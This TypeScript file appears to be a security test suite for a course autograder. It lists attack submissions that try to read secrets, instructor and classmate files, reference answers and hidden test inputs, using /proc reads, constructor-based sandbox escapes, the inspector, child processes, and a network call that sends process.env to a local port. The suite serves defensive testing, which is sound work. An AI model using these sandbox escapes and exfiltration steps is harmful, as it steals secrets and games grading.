/** Reading what is not the student's: secrets, answers, hidden inputs, other submissions, the machine. */
import { family, type Plan, ts } from "../plan.js";
import { all, flopsPoints, getModules, getProcess, hiddenMark, honestFlops } from "../texts.js";

const nothing = "nothing that it was after turns up in anything that is printed or written";

/** Throws what it finds, at every call. */
const teller = (
  id: string,
  tries: string,
  code: string | ((scene: Parameters<Plan["files"]>[0]) => string),
  more: Partial<Plan> = {},
): Plan => ({
  id,
  tries,
  files: (scene) => {
    const text = typeof code === "string" ? code : code(scene);
    return ts(`let found = "nothing";
${text}
${all('throw new Error("found " + (typeof found === "string" ? found : JSON.stringify(found)));')}`);
  },
  honest: flopsPoints,
  must: nothing,
  ...more,
});

const readBy = (path: string) => `
${getModules}
const fs = await load("node:fs");
const ways = [
  () => fs.readFileSync(${path}, "utf8"),
  () => fs.readdirSync(${path}).join(),
  () => fs.createReadStream(${path}).read().toString(),
  () => require("fs").readFileSync(${path}, "utf8"),
];
for (const way of ways) { const got = reach(way); if (got) found = got; }
`;

/** Hands in what it could import, in place of its own solutions. */
const borrowed = (
  id: string,
  tries: string,
  from: (scene: Parameters<Plan["files"]>[0]) => string,
): Plan => ({
  id,
  tries,
  files: (scene) => ts(from(scene)),
  honest: flopsPoints,
  must: "the import is refused, and nothing of it earns points",
});

const libraryAs = (module: string) => `
let answers = {};
${module}
const { attention, multiHeadAttention, softmax } = answers;
export const stableSoftmax = (x) => softmax(x);
export const sdpa = (Q, K, V) => attention(Q, K, V);
export const causalSdpa = (Q, K, V) => attention(Q, K, V, { causal: true });
export const mha = (Q, K, V, H) => multiHeadAttention(Q, K, V, H);
${honestFlops}`;

const whisper = (body: string, code = ""): string => `${hiddenMark}
${code}
${all(`${body} return [[0]];`)}`;

const hiddenPlan = (id: string, tries: string, body: string, code = ""): Plan => ({
  id,
  tries,
  files: () => ts(whisper(body, code)),
  honest: flopsPoints,
  must: "a hidden check says that it failed, and nothing of what it was tried on",
});

export const reading = family("reading", [
  teller(
    "environment",
    "tells all environment variables",
    `${getProcess} found = reach(() => JSON.stringify(proc.env)) ?? "none"; `,
  ),
  teller(
    "environment-proc",
    "reads its own and its parent's environment and command line from /proc",
    `${getModules}
const fs = await load("node:fs");
for (const who of ["self", reach(() => proc.ppid)]) for (const what of ["environ", "cmdline", "maps", "cwd"]) { const got = reach(() => fs.readFileSync("/proc/" + who + "/" + what, "utf8")); if (got) found += got.slice(0, 20000); }`,
  ),
  teller("secret-file", "reads a file of the instructor's by its path", ({ secret }) =>
    readBy(JSON.stringify(secret)),
  ),
  teller(
    "secret-import",
    "imports a file of the instructor's as text",
    ({ secret }) => `import text from ${JSON.stringify(secret)} with { type: "text" };
found = text;`,
  ),
  teller(
    "secret-fetch",
    "fetches a file of the instructor's as a URL",
    ({ secret }) => `
for (const how of [(u) => fetch(u).then((r) => r.text()), (u) => import(u), (u) => import(u, { with: { type: "json" } })]) { try { const got = await how("file://" + ${JSON.stringify(secret)}); found = typeof got === "string" ? got : JSON.stringify(got); } catch (error) { found += String(error.message).slice(0, 200); } }`,
  ),
  teller("neighbour-file", "reads the submission of a fellow student", ({ neighbour }) =>
    readBy(JSON.stringify(neighbour("00"))),
  ),
  teller(
    "class-list",
    "lists the folder that all submissions lie in, and reads them all",
    (scene) => `${getModules}
const fs = await load("node:fs");
for (const name of reach(() => fs.readdirSync(${JSON.stringify(scene.class)})) ?? []) found += name + (reach(() => fs.readFileSync(${JSON.stringify(scene.class)} + "/" + name, "utf8")) ?? "");`,
  ),
  borrowed(
    "neighbour-import",
    "exports the solutions of a fellow student from beside its own file",
    () => `export * from "./neighbour-00.ts";`,
  ),
  borrowed(
    "neighbour-absolute",
    "exports the solutions of a fellow student by their whole path",
    ({ neighbour }) => `export * from ${JSON.stringify(neighbour("00"))};`,
  ),
  borrowed(
    "answers-import",
    "exports the reference solutions by their path",
    ({ answers }) => `export * from ${JSON.stringify(answers("00"))};`,
  ),
  borrowed(
    "answers-relative",
    "exports the reference solutions of the repository, wherever it may lie",
    () => `export * from "../answers/00-attention.ts";`,
  ),
  borrowed(
    "answers-dynamic",
    "imports the reference solutions when it runs",
    ({ answers }) => `
const answers = await (0, eval)("(p) => import(p)")(${JSON.stringify(answers("00"))}).catch(() => import(${JSON.stringify(answers("00"))}));
export const { stableSoftmax, sdpa, causalSdpa, mha } = answers;
${honestFlops}`,
  ),
  borrowed(
    "library-attention",
    "calls the library's own attention",
    () => `
import { attention, multiHeadAttention } from "long-attention/attention";
import { softmax } from "long-attention/tensor";
export const stableSoftmax = (x) => softmax(x);
export const sdpa = (Q, K, V) => attention(Q, K, V);
export const causalSdpa = (Q, K, V) => attention(Q, K, V, { causal: true });
export const mha = (Q, K, V, H) => multiHeadAttention(Q, K, V, H);
${honestFlops}`,
  ),
  borrowed(
    "library-dynamic",
    "looks for the library's answers under every name they might have, when it runs",
    () =>
      libraryAs(`
const names = ["long-attention", "long-attention/attention", "long-attention/tensor", "long-attention/tensor/softmax.js", "long-attention/fast", "long-attention/dist/attention/index.js", "guest", "./guest", "@long-attention/grader", "./chunk-AAAAAAAA.js", "file:///long-attention/attention", "../node_modules/long-attention/dist/attention/index.js"];
for (const name of names) { try { answers = { ...answers, ...(await import(name)) }; } catch {} }`),
  ),
  borrowed("library-by-eval", "imports the library's answers from code that belongs to no file", () =>
    libraryAs(`
for (const run of [(0, eval), (text) => new Function("return " + text)(), (text) => new (Object.getPrototypeOf(async () => {}).constructor)("return " + text)()])
  for (const name of ["long-attention/attention", "long-attention/tensor"]) { try { answers = { ...answers, ...(await run('import("' + name + '")')) }; } catch {} }`),
  ),
  {
    id: "library-by-name",
    tries: "names its own files like the library's, so that they may import what the library may",
    files: () => [
      { path: "/00-attention.ts", text: 'export * from "./guest.ts";' },
      {
        path: "/guest.ts",
        text: 'export * from "./long-attention/attention.ts"; export { attention as sdpa } from "long-attention/attention";',
      },
      {
        path: "/long-attention/attention.ts",
        text: 'export { attention as causalSdpa } from "long-attention/attention";',
      },
    ],
    honest: 0,
    must: "a student's file may import what the set allows, whatever it is called",
  },
  {
    id: "solutions-on-disk",
    tries: "reads the reference solutions as text",
    files: ({ answers }) =>
      ts(`${getModules}
const fs = await load("node:fs");
const text = reach(() => fs.readFileSync(${JSON.stringify(answers("00"))}, "utf8")) ?? "";
export const stableSoftmax = () => { throw new Error(text); };
${honestFlops}`),
    honest: flopsPoints,
    must: nothing,
  },
  hiddenPlan(
    "hidden-throw",
    "throws the inputs of the hidden checks",
    "if (hidden(args)) throw new Error(mark + JSON.stringify(numbersOf(args)));",
  ),
  hiddenPlan(
    "hidden-result",
    "gives the inputs of the hidden checks back as its wrong result",
    "if (hidden(args)) return { leak: mark, numbers: numbersOf(args), text: [mark] };",
  ),
  hiddenPlan(
    "hidden-print",
    "prints the inputs of the hidden checks",
    "if (hidden(args)) for (const say of [(t) => console.log(t), (t) => console.error(t), (t) => print(t), (t) => process.stdout.write(t)]) { try { say(mark + numbersOf(args).join()); } catch {} }",
  ),
  hiddenPlan(
    "hidden-later",
    "keeps the inputs of the hidden checks wherever it can, and tells them when a visible check calls",
    "const kept = keep(); if (kept) throw new Error(kept); if (hidden(args)) store(mark + numbersOf(args).join());",
    `import * as tensor from "long-attention/tensor";
const places = [globalThis, Array.prototype, Object.prototype, Function.prototype, Math, JSON, tensor.zeros, tensor.matmul, Float64Array, Symbol];
let own = "";
function store(text) { own = text; for (const place of places) { try { place.keptHere ??= text; } catch {} } try { globalThis[Symbol.for("kept")] = text; } catch {} }
function keep() { for (const place of places) if (typeof place.keptHere === "string") return place.keptHere; return own || globalThis[Symbol.for("kept")]; }`,
  ),
  hiddenPlan(
    "hidden-by-line",
    "throws from a line whose number is the hidden input",
    "if (hidden(args)) { const n = Math.round(Math.abs(numbersOf(args)[0])) % 64; lines[n](); }",
    `const lines = [\n${Array.from({ length: 64 }, () => '() => { throw new Error("x"); },').join("\n")}\n];`,
  ),
  hiddenPlan(
    "hidden-inputs-changed",
    "writes the hidden inputs into the arguments of which the grader tells that they were changed",
    "if (hidden(args)) { for (const a of args) if (a && typeof a === 'object') { a.leak = mark + numbersOf(args).join(); a.shape = [mark]; } }",
  ),
  {
    id: "hidden-device",
    tries: "tells the sizes of a hidden run through the traffic that the grader reports",
    set: "07",
    files: () =>
      ts(`export function flashForward(mem, Br, Bc) {
  for (let n = 0; n < 100 * mem.Q.rows + 10 * Br + Bc; n++) mem.free(mem.load(mem.Q, 0, 1));
  if (Br === 100 || mem.Q.rows === 17) throw new Error(["LEAK", "HIDDEN"].join("-") + [mem.Q.rows, mem.Q.cols, Br, Bc]);
}`),
    honest: 0,
    must: "a hidden check tells neither traffic nor the step that went wrong",
  },
  teller(
    "stack-paths",
    "tells the machine's paths from a stack trace",
    `
found = new Error("x").stack; try { null.x; } catch (error) { found += error.stack; } try { JSON.parse("{"); } catch (error) { found += error.stack; } try { await import("./nowhere.ts"); } catch (error) { found += error.message + error.stack; }
Error.prepareStackTrace = (_, sites) => sites.map((s) => s.getFileName?.()).join(); found += new Error("y").stack;`,
    { paths: true },
  ),
  teller(
    "meta-paths",
    "tells the machine's paths from what modules know of themselves",
    `
try { found = import.meta.url + import.meta.dirname + import.meta.filename; } catch {}
${getProcess} found += reach(() => [proc.cwd(), proc.argv, proc.execPath, proc.mainModule?.filename].join()); found += reach(() => __filename) + reach(() => scriptArgs);`,
    { paths: true },
  ),
  {
    id: "source-map",
    tries: "points a source map at a file of the instructor's, whose text a stack trace then quotes",
    files: ({ secret }) =>
      ts(`${all('throw new Error("x");')}
//# source${"MappingURL"}=${secret}
//# source${"URL"}=${secret}
`),
    honest: flopsPoints,
    must: nothing,
  },
  teller(
    "engine-modules",
    "imports the modules that QuickJS brings along in other programs",
    `
for (const name of ["std", "os", "qjs:std", "qjs:os", "bjson"]) { try { const m = await import(name); found += JSON.stringify(Object.keys(m)) + (m.getenviron ? JSON.stringify(m.getenviron()) : "") + (m.getcwd ? m.getcwd() : ""); } catch {} }
${getProcess} found += reach(() => proc.env.LONG_ATTENTION_CANARY);`,
  ),
  teller(
    "constructors",
    "climbs from every object it is given to the function that makes functions",
    `
${getProcess}
const climb = (x) => { try { return x.constructor.constructor("return typeof process === 'object' ? JSON.stringify(process.env) : typeof require")(); } catch { return ""; } };
for (const x of [console, console.log, structuredClone, performance, Math.random, Date, globalThis, import.meta]) found += climb(x);
try { null.f(); } catch (error) { found += climb(error); }`,
  ),
  {
    id: "constructors-device",
    tries: "climbs out of the device, its tiles and the errors that it throws",
    set: "07",
    files: () =>
      ts(`export function flashForward(mem, Br, Bc) {
  let found = "";
  const climb = (x) => { try { found += x.constructor.constructor("return typeof process === 'object' ? JSON.stringify(process.env) : ''")(); } catch {} };
  for (const x of [mem, mem.Q, mem.load, mem.load(mem.Q, 0, 1)]) climb(x);
  try { mem.load("nothing", 0, 1); } catch (error) { climb(error); found += error.stack; }
  throw new Error(found);
}`),
    honest: 0,
    must: nothing,
  },
  {
    id: "callers",
    tries: "looks at who calls it, and with which answers",
    files: () =>
      ts(`var found = "";
function attack() {
  try { found += attack.caller + JSON.stringify([...attack.caller.arguments]); } catch {}
  try { found += arguments.callee.caller; } catch {}
  try { return attack.caller.arguments[0].expected; } catch {}
  throw new Error(found);
}
export { attack as stableSoftmax, attack as sdpa };
${honestFlops}`),
    honest: flopsPoints,
    must: nothing,
  },
  teller(
    "old-memory",
    "looks for the answers in memory that others have left behind",
    `
const texts = []; const hunt = ["can" + "ary-", "expe" + "cted"];
for (let i = 0; i < 64; i++) { try { texts.push(Buffer.allocUnsafe(8192).toString("latin1"), Buffer.allocUnsafeSlow(65536).toString("latin1")); } catch {} const b = new Uint8Array(65536); if (b.some((x) => x !== 0)) texts.push(String.fromCharCode(...b.slice(0, 4096))); }
for (const text of texts) for (const word of hunt) { const at = text.indexOf(word); if (at >= 0) found += text.slice(at, at + 60); }`,
  ),
  teller(
    "inspector",
    "opens a debugger on itself and asks it about the process",
    `
${getModules}
try { const { Session } = await load("node:inspector"); const s = new Session(); s.connect(); s.post("Runtime.evaluate", { expression: "JSON.stringify(process.env)", includeCommandLineAPI: true }, (e, r) => { found += JSON.stringify(r); }); } catch {}`,
  ),
  teller(
    "network",
    "sends what it finds over the network",
    ({ port }) => `
${getModules}
try { const net = await load("node:net"); await new Promise((done) => { const s = net.connect(${port}, "127.0.0.1", () => { s.end(JSON.stringify(proc.env)); done(); }); s.on("error", done); setTimeout(done, 500); }); } catch {}
try { await fetch("http://127.0.0.1:${port}/" + encodeURIComponent(found)); } catch {}
try { const dgram = await load("node:dgram"); dgram.createSocket("udp4").send("x", ${port}, "127.0.0.1"); } catch {}`,
  ),
  teller(
    "database",
    "opens files through the database that newer Nodes bring along",
    ({ secret, outside }) => `
${getModules}
try { const { DatabaseSync } = await load("node:sqlite"); const db = new DatabaseSync(":memory:"); db.exec("ATTACH '" + ${JSON.stringify(`${outside}/made.db`)} + "' AS x; CREATE TABLE x.t (a)"); found += db.prepare("SELECT readfile(?)").get(${JSON.stringify(secret)}); } catch {}`,
  ),
  teller(
    "compiled-helpers",
    "runs another program that reads for it",
    ({ secret, tag }) => `
${getModules}
try { const { execFileSync } = await load("node:child_process"); found += execFileSync(proc.execPath, ["-e", "process.stdout.write(require('fs').readFileSync(process.argv[1]))", ${JSON.stringify(secret)}, "${tag}"], { timeout: 2000 }).toString(); } catch {}`,
  ),
]);
